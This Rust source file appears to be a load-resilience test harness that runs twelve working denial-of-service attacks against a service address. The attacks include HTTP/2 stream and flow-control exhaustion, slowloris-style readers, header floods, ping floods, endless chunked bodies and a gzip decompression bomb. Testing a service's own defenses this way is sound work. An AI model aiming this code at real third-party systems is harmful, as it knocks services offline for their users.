//! Attackers: each opens connections, keeps them in a way that costs the service, and opens another where one ends.

use std::io::Write;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use flate2::Compression;
use flate2::write::GzEncoder;
use h2::client::Builder;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

/// A file that is larger than what the system keeps of a connection.
const FILE: &str = "/docs/swagger-ui-bundle.js";
/// How many streams a connection of HTTP/2 tries to have.
const STREAMS: usize = 64;
/// How long a connection is kept that the service does not end.
const KEPT: Duration = Duration::from_secs(60);
/// How a connection of HTTP/2 starts, with its settings, in bytes.
const PREFACE: usize = 24 + 9;
/// How long an attacker waits before it opens another connection.
const PAUSE: Duration = Duration::from_millis(100);

/// What an attacker does.
#[derive(Clone, Copy)]
pub enum Attack {
    /// Opens streams for a large file and reads nothing of it.
    Streams,
    /// Asks for large plans with closed windows, and answers pings.
    ClosedWindows,
    /// Asks for a large plan over HTTP/1.1 and reads nothing.
    NonReaders,
    /// Reads a large plan too slowly.
    SlowReaders,
    /// Sends nearly all of a large body.
    StalledBodies,
    /// Sends heads of HTTP/2 with more fields than one may have, again and again.
    RefusedHeads,
    /// Sends heads of HTTP/2 with hundreds of short fields, and nothing after them.
    OpenHeads,
    /// Sends small documents that become millions of values.
    Documents,
    /// Asks for something small over HTTP/1.1, again and again, before the answers are there.
    Requests,
    /// Sends frames of HTTP/2 that ask nothing, again and again.
    Frames,
    /// Sends a chunk whose size has no end.
    HollowChunks,
    /// Opens connections and says nothing.
    Silence,
}

/// Every attack, with its name and the number of its connections.
pub const ALL: [(Attack, &str, usize); 12] = [
    (Attack::Streams, "streams", 60),
    (Attack::ClosedWindows, "closed windows", 60),
    (Attack::NonReaders, "non-readers", 100),
    (Attack::SlowReaders, "slow readers", 100),
    (Attack::StalledBodies, "stalled bodies", 64),
    (Attack::RefusedHeads, "refused heads", 50),
    (Attack::OpenHeads, "open heads", 800),
    (Attack::Documents, "compressed documents", 16),
    (Attack::Requests, "pipelined requests", 12),
    (Attack::Frames, "frames that ask nothing", 100),
    (Attack::HollowChunks, "hollow chunks", 100),
    (Attack::Silence, "silence", 2_500),
];

/// Starts so many attackers, who stop when the set is dropped.
pub fn start(attack: Attack, connections: usize, address: SocketAddr) -> JoinSet<()> {
    let sent: Arc<[u8]> = match attack {
        Attack::RefusedHeads => heads(600).into(),
        Attack::OpenHeads => heads(440).into(),
        Attack::Documents => document().into(),
        Attack::Requests => b"GET /v1/releases HTTP/1.1\r\nhost: x\r\n\r\n".repeat(1_000).into(),
        Attack::Frames => pings().into(),
        Attack::HollowChunks => [b'0'; 1 << 16].into(),
        _ => large().into_bytes().into(),
    };
    let mut attackers = JoinSet::new();
    for _ in 0..connections {
        let sent = Arc::clone(&sent);
        attackers.spawn(async move {
            loop {
                let _ = timeout(KEPT, attack.once(address, &sent)).await;
                sleep(PAUSE).await;
            }
        });
    }
    attackers
}

impl Attack {
    /// One connection, until it ends.
    async fn once(self, address: SocketAddr, sent: &[u8]) -> Option<()> {
        let mut stream = TcpStream::connect(address).await.ok()?;
        let (length, spec) = (sent.len(), std::str::from_utf8(sent).unwrap_or_default());
        let head = "HTTP/1.1\r\nhost: x\r\ncontent-type: application/yaml\r\ncontent-length:";
        match self {
            Attack::Streams => streams(stream, Builder::new(), "").await,
            Attack::ClosedWindows => streams(stream, Builder::new().initial_window_size(0).clone(), spec).await,
            Attack::NonReaders => {
                stream.write_all(format!("POST /v1/routes {head} {length}\r\n\r\n{spec}").as_bytes()).await.ok()?;
                sleep(KEPT).await;
                Some(())
            }
            Attack::SlowReaders => {
                stream.write_all(format!("POST /v1/routes {head} {length}\r\n\r\n{spec}").as_bytes()).await.ok()?;
                let mut part = vec![0; 16 << 10];
                while stream.read(&mut part).await.ok()? != 0 {
                    sleep(Duration::from_secs(1)).await;
                }
                Some(())
            }
            Attack::StalledBodies => {
                let part = "#".repeat(1_000_000);
                stream.write_all(format!("POST /v1/plan {head} {}\r\n\r\n{part}", 1 << 20).as_bytes()).await.ok()?;
                stream.read(&mut [0]).await.ok().map(drop)
            }
            Attack::RefusedHeads => {
                stream.write_all(sent).await.ok()?;
                stream.read(&mut [0]).await.ok().map(drop)
            }
            Attack::OpenHeads => {
                stream.write_all(sent).await.ok()?;
                while stream.read(&mut [0; 1 << 10]).await.ok()? != 0 {}
                Some(())
            }
            Attack::Documents => {
                let head = format!("POST /v1/batch {head} {length}\r\ncontent-encoding: gzip\r\n\r\n");
                stream.write_all(&[head.as_bytes(), sent].concat()).await.ok()?;
                stream.read(&mut [0; 1 << 10]).await.ok().map(drop)
            }
            Attack::Requests => press(stream, b"", sent).await,
            Attack::Frames => press(stream, &heads(0)[..PREFACE], sent).await,
            Attack::HollowChunks => {
                let head = "POST /v1/plan HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n";
                press(stream, head.as_bytes(), sent).await
            }
            Attack::Silence => stream.read(&mut [0]).await.ok().map(drop),
        }
    }
}

/// Sends as fast as the service takes it, and drops what it answers.
async fn press(stream: TcpStream, start: &[u8], again: &[u8]) -> Option<()> {
    let (mut answers, mut requests) = stream.into_split();
    requests.write_all(start).await.ok()?;
    let sends = async { while requests.write_all(again).await.is_ok() {} };
    let reads = async { while answers.read(&mut [0; 1 << 14]).await.is_ok_and(|more| 0 < more) {} };
    tokio::join!(sends, reads);
    Some(())
}

/// A connection of HTTP/2 with as many streams as it may have, of which nothing is read.
async fn streams(stream: TcpStream, builder: Builder, spec: &str) -> Option<()> {
    let (client, connection) = builder.handshake::<_, bytes::Bytes>(stream).await.ok()?;
    let connection = tokio::spawn(connection);
    let mut open = Vec::new();
    for _ in 0..STREAMS {
        let Ok(Ok(mut ready)) = timeout(Duration::from_secs(1), client.clone().ready()).await else { break };
        let (method, target) = if spec.is_empty() { ("GET", FILE) } else { ("POST", "/v1/routes") };
        let request = http::Request::builder().method(method).uri(format!("http://x{target}"));
        let request = request.header("content-type", "application/yaml").body(()).ok()?;
        let (response, mut body) = ready.send_request(request, spec.is_empty()).ok()?;
        if !spec.is_empty() {
            body.send_data(bytes::Bytes::copy_from_slice(spec.as_bytes()), true).ok()?;
        }
        open.push((response, body));
    }
    connection.await.ok().map(drop)
}

/// The start of a connection of HTTP/2, and eight heads of so many short fields whose bodies do not come.
fn heads(fields: usize) -> Vec<u8> {
    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
        [&(payload.len() as u32).to_be_bytes()[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
    };
    let field = |number: usize| [&b"\0\x04"[..], format!("a{number:03}").as_bytes(), b"\0"].concat();
    // `POST /` of `x`, over `http`, with these fields.
    let head: Vec<u8> = b"\x83\x84\x86\x41\x01x".iter().copied().chain((0..fields).flat_map(field)).collect();
    let (headers, end_headers, settings) = (0x1, 0x4, 0x4);
    let mut bytes = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(settings, 0, 0, &[])].concat();
    bytes.extend((0..8).flat_map(|number| frame(headers, end_headers, 2 * number + 1, &head)));
    bytes
}

/// Many frames of HTTP/2 that have an answer and ask nothing.
fn pings() -> Vec<u8> {
    [&[0, 0, 8, 0x6, 0, 0, 0, 0, 0][..], &[0; 8]].concat().repeat(2_000)
}

/// A document of questions that is small as it is sent, and has millions of values.
fn document() -> Vec<u8> {
    let text = ["questions: [", &"{},".repeat(2_600_000), "{}]"].concat();
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    // Writing to memory cannot fail.
    let _ = encoder.write_all(text.as_bytes());
    encoder.finish().unwrap_or_default()
}

/// A spec whose route tables take megabytes.
fn large() -> String {
    let subnet = |index: usize| {
        let (third, fourth) = (index / 16, index % 16 * 16);
        format!(
            "  - {{name: a-rather-long-name-{index}, type: Public, zone: us-east-1a, cidr: 10.0.{third}.{fourth}/28}}\n"
        )
    };
    let head = "apiVersion: kops.k8s.io/v1alpha2\nkind: Cluster\nmetadata: {name: c.example.com}\nspec:\n  \
        cloudProvider: aws\n  kubernetesVersion: 1.32.0\n  networkCIDR: 10.0.0.0/16\n  networkID: vpc-0a1b2c3d\n  \
        networking: {cilium: {}}\n  topology: {dns: {type: Public}}\n  subnets:\n";
    head.to_owned() + &(0..600).map(subnet).collect::<String>()
}
